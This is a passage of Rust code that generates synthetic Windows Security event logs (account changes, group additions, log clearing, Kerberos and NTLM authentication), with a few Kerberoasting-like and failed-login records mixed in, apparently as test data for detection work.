fn user_created_or_deleted(ctx: &mut GenContext<'_>, fields: &mut Fields) {
    let world = ctx.world;
    let created = ctx.variant == v::USER_CREATED;
    let header = Header {
        event_id: if created { "4720" } else { "4726" },
        version: "0",
        task: "13824",
        keywords: AUDIT_SUCCESS,
        activity: false,
    };
    let host = domain_controller(world, &mut ctx.rng);
    let pinned = ctx.pinned_user(SUBJECT);
    let admin = admin_user(world, &mut ctx.rng, pinned);
    let account = ctx.rng.pick(&world.users);
    system(ctx, fields, &header, host);

    fields.str(data::TARGET_USER_NAME, &account.username);
    fields.str(data::TARGET_DOMAIN_NAME, &world.netbios_domain);
    fields.str(data::TARGET_SID, &account.sid);
    subject_user(fields, world, admin, &mut ctx.rng);
    fields.str(data::PRIVILEGE_LIST, "-");
    if !created {
        return;
    }
    fields.str(data::SAM_ACCOUNT_NAME, &account.username);
    fields.str(data::DISPLAY_NAME, &account.display_name);
    fields.str(data::USER_PRINCIPAL_NAME, &account.email);
    for name in [
        data::HOME_DIRECTORY,
        data::HOME_PATH,
        data::SCRIPT_PATH,
        data::PROFILE_PATH,
        data::USER_WORKSTATIONS,
    ] {
        fields.str(name, "-");
    }
    fields.str(data::PASSWORD_LAST_SET, "%%1794");
    fields.str(data::ACCOUNT_EXPIRES, "%%1794");
    fields.str(data::PRIMARY_GROUP_ID, "513");
    fields.str(data::ALLOWED_TO_DELEGATE_TO, "-");
    fields.str(data::OLD_UAC_VALUE, "0x0");
    fields.str(data::NEW_UAC_VALUE, "0x15");
    fields.str(data::USER_ACCOUNT_CONTROL, "\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084");
    fields.str(data::USER_PARAMETERS, "%%1793");
    fields.str(data::SID_HISTORY, "-");
    fields.str(data::LOGON_HOURS, "%%1797");
}

/// Built-in local groups that members are added to: name and SID.
const LOCAL_GROUPS: &[(&str, &str)] = &[
    ("Administrators", "S-1-5-32-544"),
    ("Remote Desktop Users", "S-1-5-32-555"),
    ("Backup Operators", "S-1-5-32-551"),
    ("Event Log Readers", "S-1-5-32-573"),
];

fn group_member_added(ctx: &mut GenContext<'_>, fields: &mut Fields) {
    let world = ctx.world;
    let header = Header {
        event_id: "4732",
        version: "0",
        task: "13826",
        keywords: AUDIT_SUCCESS,
        activity: false,
    };
    let host = if ctx.rng.chance(500) { domain_controller(world, &mut ctx.rng) } else { windows_server(world, &mut ctx.rng) };
    let pinned = ctx.pinned_user(SUBJECT);
    let admin = admin_user(world, &mut ctx.rng, pinned);
    let member = ctx.rng.pick(&world.users);
    let (group, group_sid) = *ctx.rng.pick(LOCAL_GROUPS);
    system(ctx, fields, &header, host);

    fields.with(data::MEMBER_NAME, |out| {
        out.push_str("CN=");
        out.push_str(&member.display_name);
        out.push_str(",OU=");
        out.push_str(&member.department);
        out.push_str(",OU=Users");
        for part in world.domain.split('.') {
            out.push_str(",DC=");
            out.push_str(part);
        }
    });
    fields.str(data::MEMBER_SID, &member.sid);
    fields.str(data::TARGET_USER_NAME, group);
    fields.str(data::TARGET_DOMAIN_NAME, "Builtin");
    fields.str(data::TARGET_SID, group_sid);
    subject_user(fields, world, admin, &mut ctx.rng);
    fields.str(data::PRIVILEGE_LIST, "-");
}

fn log_cleared(ctx: &mut GenContext<'_>, fields: &mut Fields) {
    let world = ctx.world;
    let header = Header {
        event_id: "1102",
        version: "0",
        task: "104",
        keywords: "0x4020000000000000",
        activity: false,
    };
    let (_, workstation) = windows_user(world, &mut ctx.rng, None);
    let host = if ctx.rng.chance(500) { workstation } else { windows_server(world, &mut ctx.rng) };
    let pinned = ctx.pinned_user(SUBJECT);
    let admin = admin_user(world, &mut ctx.rng, pinned);
    system(ctx, fields, &header, host);
    fields.str(data::CLEARED_BY_USER_SID, &admin.sid);
    fields.str(data::CLEARED_BY_USER_NAME, &admin.username);
    fields.str(data::CLEARED_BY_DOMAIN_NAME, &world.netbios_domain);
    fields.with(data::CLEARED_BY_LOGON_ID, |out| push_hex(out, logon_id(&mut ctx.rng)));
}

// ---------------------------------------------------------------------------------------------
// Domain controller authentication

fn kerberos_tgt(ctx: &mut GenContext<'_>, fields: &mut Fields) {
    let world = ctx.world;
    let failed = ctx.rng.chance(80);
    let header = Header {
        event_id: "4768",
        version: "0",
        task: "14339",
        keywords: if failed { AUDIT_FAILURE } else { AUDIT_SUCCESS },
        activity: false,
    };
    let host = domain_controller(world, &mut ctx.rng);
    let pinned = ctx.pinned_user(TARGET);
    let (user, workstation) = windows_user(world, &mut ctx.rng, pinned);
    system(ctx, fields, &header, host);

    if failed {
        // KDC_ERR_C_PRINCIPAL_UNKNOWN: the client name is not in the directory.
        fields.str(data::TARGET_USER_NAME, ctx.rng.pick_str(GUESSED_NAMES));
        fields.with(data::TARGET_DOMAIN_NAME, |out| push_upper(out, &world.domain));
        fields.str(data::TARGET_SID, NULL_SID);
    } else {
        fields.str(data::TARGET_USER_NAME, &user.username);
        fields.str(data::TARGET_DOMAIN_NAME, &world.netbios_domain);
        fields.str(data::TARGET_SID, &user.sid);
    }
    fields.with(data::SERVICE_NAME, |out| {
        out.push_str("krbtgt");
        if failed {
            out.push('/');
            push_upper(out, &world.domain);
        }
    });
    if failed {
        fields.str(data::SERVICE_SID, NULL_SID);
    } else {
        fields.with(data::SERVICE_SID, |out| {
            out.push_str(&world.domain_sid);
            out.push_str("-502");
        });
    }
    fields.str(data::TICKET_OPTIONS, "0x40810010");
    fields.str(data::STATUS, if failed { "0x6" } else { "0x0" });
    fields.str(data::TICKET_ENCRYPTION_TYPE, if failed { "0xffffffff" } else { "0x12" });
    fields.str(data::PRE_AUTH_TYPE, if failed { "-" } else { "2" });
    fields.with(data::IP_ADDRESS, |out| {
        out.push_str("::ffff:");
        push_ipv4(out, workstation.ip);
    });
    fields.with(data::IP_PORT, |out| push_u64(out, ctx.rng.range(49_152, 65_535)));
    fields.str(data::CERT_ISSUER_NAME, "");
    fields.str(data::CERT_SERIAL_NUMBER, "");
    fields.str(data::CERT_THUMBPRINT, "");
}

fn kerberos_service_ticket(ctx: &mut GenContext<'_>, fields: &mut Fields) {
    let world = ctx.world;
    let header = Header {
        event_id: "4769",
        version: "0",
        task: "14337",
        keywords: AUDIT_SUCCESS,
        activity: false,
    };
    let host = domain_controller(world, &mut ctx.rng);
    let pinned = ctx.pinned_user(TARGET);
    let (user, workstation) = windows_user(world, &mut ctx.rng, pinned);
    let server = windows_server(world, &mut ctx.rng);
    system(ctx, fields, &header, host);

    fields.with(data::TARGET_USER_NAME, |out| {
        out.push_str(&user.username);
        out.push('@');
        push_upper(out, &world.domain);
    });
    fields.with(data::TARGET_DOMAIN_NAME, |out| push_upper(out, &world.domain));
    // A few requests name a service account with RC4 tickets, the Kerberoasting pattern.
    let roast = ctx.rng.chance(30);
    if roast {
        fields.str(data::SERVICE_NAME, "svc_sql");
        fields.with(data::SERVICE_SID, |out| {
            out.push_str(&world.domain_sid);
            out.push_str("-1201");
        });
        fields.str(data::TICKET_OPTIONS, "0x40810000");
        fields.str(data::TICKET_ENCRYPTION_TYPE, "0x17");
    } else {
        fields.with(data::SERVICE_NAME, |out| {
            out.push_str(&server.hostname);
            out.push('$');
        });
        fields.with(data::SERVICE_SID, |out| {
            out.push_str(&world.domain_sid);
            out.push('-');
            push_u64(out, 2000 + fnv1a(server.hostname.as_bytes()) % 5000);
        });
        fields.str(data::TICKET_OPTIONS, "0x40810000");
        fields.str(data::TICKET_ENCRYPTION_TYPE, "0x12");
    }
    fields.with(data::IP_ADDRESS, |out| {
        out.push_str("::ffff:");
        push_ipv4(out, workstation.ip);
    });
    fields.with(data::IP_PORT, |out| push_u64(out, ctx.rng.range(49_152, 65_535)));
    fields.str(data::STATUS, "0x0");
    fields.with(data::LOGON_GUID, |out| push_guid(out, &mut ctx.rng));
    fields.str(data::TRANSMITTED_SERVICES, "-");
}

fn ntlm_validation(ctx: &mut GenContext<'_>, fields: &mut Fields) {
    let world = ctx.world;
    let failed = ctx.rng.chance(150);
    let header = Header {
        event_id: "4776",
        version: "0",
        task: "14336",
        keywords: if failed { AUDIT_FAILURE } else { AUDIT_SUCCESS },
        activity: false,
    };
    let host = domain_controller(world, &mut ctx.rng);
    let pinned = ctx.pinned_user(TARGET);
    let (user, workstation) = windows_user(world, &mut ctx.rng, pinned);
    system(ctx, fields, &header, host);
    fields.str(data::PACKAGE_NAME, "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0");
    fields.str(data::TARGET_USER_NAME, &user.username);
    fields.str(data::WORKSTATION, &workstation.hostname);
    fields.str(data::STATUS, if failed { "0xc000006a" } else { "0x0" });
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn time_created_matches_rfc3339_with_nine_digits() {
        let start = Timestamp::from_civil(2026, 1, 5, 23, 59, 59, 0).0;
        let offsets = [0, 1, 100, 999_999_999, 1_000_000_000, 1_000_000_100, 86_400_000_000_000, -1, -1_000_000_001];
        for offset in offsets {
            let time = Timestamp(start + offset);
            let mut out = String::from("x");
            push_time_created(&mut out, time);
            let mut expected = String::from("x");
            time.write_rfc3339(&mut expected, 9);
            assert_eq!(out, expected, "offset {offset}");
        }
    }
}
